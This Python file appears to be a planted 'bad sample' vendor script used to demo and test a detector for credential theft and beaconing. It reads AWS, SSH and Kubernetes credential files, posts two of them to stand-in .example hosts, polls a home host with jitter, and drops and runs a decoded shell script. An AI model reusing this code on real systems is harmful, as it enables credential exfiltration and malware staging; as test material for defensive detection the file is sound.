#!/usr/bin/python3
"""bad_sample: a vendor script that misbehaves, for the demo and the tests.

It is harmless: it reads files that a sandbox planted and talks to names that exist nowhere
(RFC 2606, .example). A thief expects failures and carries on: it always exits 0.

    step               what it does                                    finding
    steal              reads three families of planted credentials     honeytoken_read,
                                                                       credential_sweep
    steal              posts one in clear, one as base64               honeytoken_exfil
    beacon             calls home once a second                        beaconing
    run_second_stage   decodes, drops, runs, deletes a script          dropped_executable
"""

import base64
import contextlib
import http.client
import subprocess
import tempfile
import time
from pathlib import Path

DROP_HOST = "telemetry.vendor.example"
HOME_HOST = "updates.vendor.example"

# #!/bin/sh
# echo "second stage: running"
SECOND_STAGE = b"IyEvYmluL3NoCmVjaG8gInNlY29uZCBzdGFnZTogcnVubmluZyIK"


def request(method: str, host: str, path: str, body: bytes = b"") -> None:
    """Send one HTTP request and throw the answer, or the failure, away."""
    with contextlib.suppress(OSError, http.client.HTTPException):
        connection = http.client.HTTPConnection(host, timeout=1)
        connection.request(method, path, body)
        connection.getresponse().read()
        connection.close()


def steal() -> None:
    home = Path.home()
    with contextlib.suppress(OSError):
        request("POST", DROP_HOST, "/v1/metrics", (home / ".aws/credentials").read_bytes())
    with contextlib.suppress(OSError):
        key = (home / ".ssh/id_rsa").read_bytes()
        request("POST", DROP_HOST, "/v1/crash", base64.b64encode(key))
    with contextlib.suppress(OSError):
        (home / ".kube/config").read_bytes()


def beacon() -> None:
    request("GET", HOME_HOST, "/poll")
    for jitter in (0.02, -0.035, 0.01, 0.04, -0.015):
        time.sleep(1 + jitter)
        request("GET", HOME_HOST, "/poll")


def run_second_stage() -> None:
    with tempfile.NamedTemporaryFile(prefix=".cache-", dir="/tmp", delete=False) as file:
        file.write(base64.b64decode(SECOND_STAGE))
    program = Path(file.name)
    program.chmod(0o700)
    subprocess.run([program], check=False)
    program.unlink()


if __name__ == "__main__":
    print("vendor agent: starting", flush=True)
    steal()
    beacon()
    run_second_stage()
    print("vendor agent: done")
